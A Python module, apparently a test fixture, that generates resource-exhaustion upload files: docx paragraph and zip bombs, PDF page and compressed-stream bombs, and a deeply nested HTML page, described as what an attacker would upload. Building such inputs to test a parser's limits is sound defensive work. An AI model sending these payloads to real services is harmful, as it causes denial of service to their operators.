"""Small files that ask for a lot of work: what an attacker would upload (built in memory, in seconds).

- :func:`docx_paragraph_bomb`: a valid .docx whose body is ``n`` empty paragraphs (1,000,000 → about 10 KB).
- :func:`docx_zip_bomb`: a valid .docx whose one paragraph decompresses to ``megabytes`` of text.
- :func:`pdf_page_bomb`: a valid PDF of ``n`` empty pages (30,000 → about 1.5 MB).
- :func:`pdf_stream_bomb`: a one-page PDF whose content stream inflates to ``megabytes`` of text operators.
- :func:`html_nesting_bomb`: ``depth`` nested ``<div>`` elements around one sentence.
"""

from __future__ import annotations

import io
import zipfile
import zlib

_CONTENT_TYPES = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                  b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                  b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
                  b'<Default Extension="xml" ContentType="application/xml"/>'
                  b'<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument'
                  b'.wordprocessingml.document.main+xml"/></Types>')
_RELS = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
         b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
         b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
         b'officeDocument" Target="word/document.xml"/></Relationships>')
_DOC_HEAD = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
             b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>')
_DOC_TAIL = b"</w:body></w:document>"
_TEXT = "今年全市新建学校3所，新增学位5000个。".encode()


def _docx(write_body) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr("[Content_Types].xml", _CONTENT_TYPES)
        z.writestr("_rels/.rels", _RELS)
        with z.open("word/document.xml", "w", force_zip64=True) as out:
            out.write(_DOC_HEAD)
            write_body(out)
            out.write(_DOC_TAIL)
    return buf.getvalue()


def docx_paragraph_bomb(n: int = 1_000_000) -> bytes:
    def body(out):
        out.write(b"<w:p><w:r><w:t>" + _TEXT + b"</w:t></w:r></w:p>")
        block = b"<w:p/>" * 10_000
        for _ in range(n // 10_000):
            out.write(block)
        out.write(b"<w:p/>" * (n % 10_000))
    return _docx(body)


def docx_zip_bomb(megabytes: int = 100) -> bytes:
    def body(out):
        out.write(b"<w:p><w:r><w:t>")
        block = _TEXT * (1024 * 1024 // len(_TEXT))
        for _ in range(megabytes):
            out.write(block)
        out.write(b"</w:t></w:r></w:p>")
    return _docx(body)


def _pdf(objects: list[bytes]) -> bytes:
    """A PDF from its numbered objects (1 = catalog), with a correct cross-reference table."""
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for i, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def pdf_page_bomb(n: int = 30_000) -> bytes:
    first = 3  # page objects are 3 … n + 2
    kids = b" ".join(b"%d 0 R" % (first + i) for i in range(n))
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>",
               b"<< /Type /Pages /Count %d /Kids [%s] >>" % (n, kids)]
    objects += [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>"] * n
    return _pdf(objects)


def pdf_stream_bomb(megabytes: int = 100) -> bytes:
    ops = b"BT /F1 12 Tf 72 720 Td (Forty-two new schools.) Tj ET\n"
    raw = ops * (megabytes * 1024 * 1024 // len(ops))
    data = zlib.compress(raw, 9)
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>",
               b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
               b"/Resources << /Font << /F1 5 0 R >> >> >>",
               b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(data) + data + b"\nendstream",
               b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"]
    return _pdf(objects)


def html_nesting_bomb(depth: int = 100_000) -> bytes:
    return (b"<html><body>" + b"<div>" * depth + _TEXT + b"</div>" * depth + b"</body></html>")
